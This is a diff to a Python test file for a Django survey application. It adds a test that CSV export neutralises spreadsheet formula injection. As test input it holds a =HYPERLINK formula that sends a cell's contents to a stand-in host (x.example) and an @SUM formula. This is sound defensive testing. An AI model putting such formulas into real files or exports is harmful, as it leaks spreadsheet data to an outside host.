@@ -198,3 +198,21 @@ def test_report_has_tables_charts_and_findings(report):
 def test_chart_png_is_a_png():
     png = report_docx.bar_chart_png(["Đồng ý", "Không đồng ý"], [70.0, 30.0])
     assert png.startswith(b"\x89PNG\r\n\x1a\n") and len(png) > 2000
+
+
+def test_csv_writes_formula_answers_as_text_and_numbers_as_numbers(client, survey, vanphong):
+    from surveys.models import Response
+
+    first = Response.objects.get(instance_id="uuid:ks-chinh-trang-1")
+    first.data = {**first.data, "y_kien": '=HYPERLINK("http://x.example/?"&A1,"bấm")',
+                  "so_nguoi": "-3"}
+    first.save()
+    second = Response.objects.get(instance_id="uuid:ks-chinh-trang-2")
+    second.data = {**second.data, "y_kien": "@SUM(1+1)"}
+    second.save()
+    content = download(client, vanphong, survey, "csv")
+    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
+    assert rows[0]["y_kien"].startswith("'=HYPERLINK(")
+    assert rows[1]["y_kien"] == "'@SUM(1+1)"
+    assert rows[0]["so_nguoi"] == "-3"  # a number, not text: left as it is
+    assert not any(value.startswith(("=", "+", "@")) for row in rows for value in row.values())
